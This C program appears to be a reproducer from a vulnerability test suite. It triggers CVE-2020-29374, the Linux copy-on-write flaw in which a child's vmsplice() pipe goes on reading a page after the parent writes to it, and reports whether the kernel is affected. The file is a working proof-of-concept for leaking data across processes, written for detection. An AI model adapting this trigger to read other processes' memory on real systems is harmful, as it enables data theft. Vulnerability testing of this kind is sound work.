/* Trigger for CVE-2020-29374: a child's vmsplice() keeps reading the parent's page after COW. */
/*
 * The parent fills a page and forks; the child vmsplice()s the (shared) page into a pipe, which
 * takes a read-only GUP reference, then unmaps it. The parent writes the page again: with the
 * page mapped once, the old COW logic reused it instead of copying, so the pipe in the child
 * shows the parent's new data. Evidence: the child reads the parent's second write.
 */
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "repro_lib.h"

int main(void)
{
	long psz = sysconf(_SC_PAGESIZE);
	int data[2], sync1[2], sync2[2], status;
	char *mem, c = 0, *buf;
	pid_t pid;

	mem = mmap(NULL, (size_t)psz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mem == MAP_FAILED || pipe(data) || pipe(sync1) || pipe(sync2))
		return repro_error("mmap/pipe: %s", strerror(errno));
	memset(mem, 'A', (size_t)psz);
	pid = fork();
	if (pid < 0)
		return repro_error("fork: %s", strerror(errno));
	if (pid == 0) {
		struct iovec iov = { mem, (size_t)psz };

		buf = malloc((size_t)psz);
		if (!buf || vmsplice(data[1], &iov, 1, 0) != psz)
			_exit(3);
		munmap(mem, (size_t)psz);
		if (write(sync1[1], "x", 1) != 1 || read(sync2[0], &c, 1) != 1)
			_exit(3);
		if (read(data[0], buf, (size_t)psz) != psz)
			_exit(3);
		_exit(buf[0] == 'A' ? 0 : buf[0] == 'B' ? 1 : 2);
	}
	if (read(sync1[0], &c, 1) != 1)
		return repro_error("child did not vmsplice");
	memset(mem, 'B', (size_t)psz);
	if (write(sync2[1], "x", 1) != 1 || waitpid(pid, &status, 0) != pid)
		return repro_error("child lost: %s", strerror(errno));
	if (!WIFEXITED(status) || WEXITSTATUS(status) > 2)
		return repro_error("child failed (status 0x%x)", status);
	if (WEXITSTATUS(status) == 1)
		return repro_found("the child's pipe (vmsplice of the shared page, then munmap) "
				   "shows the data the parent wrote after fork");
	if (WEXITSTATUS(status) == 2)
		return repro_found("the child's pipe shows neither the original nor the parent's "
				   "data");
	return repro_not("the child's pipe kept the page content of fork time while the parent "
			 "wrote its copy");
}
